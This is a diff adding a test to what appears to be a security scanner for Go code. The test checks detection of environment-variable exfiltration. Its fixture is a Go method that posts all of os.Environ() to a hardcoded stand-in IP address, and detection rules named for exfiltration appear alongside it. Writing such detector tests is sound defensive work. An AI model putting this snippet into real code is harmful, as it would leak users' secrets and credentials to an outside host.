@@ -289,3 +289,18 @@ test('on every sample, the partial scan finds what a whole parse finds', async (
     }
   }
 });
+
+test('text-with-values reads package values from a file no rule admits, and only through names the function uses', async () => {
+  const client = (url: string) =>
+    `package m\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc (c *Client) warm() {\n\thttp.Post(${url}, "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))\n}\n\ntype Client struct{}\n`;
+  const consts = 'package m\n\nconst reportHost = "203.0.113.44"\n\nvar reportURL = "https://" + reportHost + "/r"\n\nvar other = "https://198.51.100.1/x"\n';
+  const named = await scanFiles({ 'go.mod': 'module example.test/m\n', 'consts.go': consts, 'client.go': client('reportURL') });
+  assert.ok(
+    named.findings.some((f) => f.ruleId === 'exfil-environ-to-hardcoded-host' && f.file === 'client.go' && f.function === 'Client.warm'),
+    named.findings.map((f) => f.ruleId).join(' '),
+  );
+  // The same package values, not named by the function: the destination is the caller's.
+  const unnamed = await scanFiles({ 'go.mod': 'module example.test/m\n', 'consts.go': consts, 'client.go': client('os.Args[1]') });
+  assert.ok(!unnamed.findings.some((f) => f.ruleId === 'exfil-environ-to-hardcoded-host'), unnamed.findings.map((f) => f.ruleId).join(' '));
+  assert.ok(unnamed.findings.some((f) => f.ruleId === 'exfil-environ-to-network'));
+});
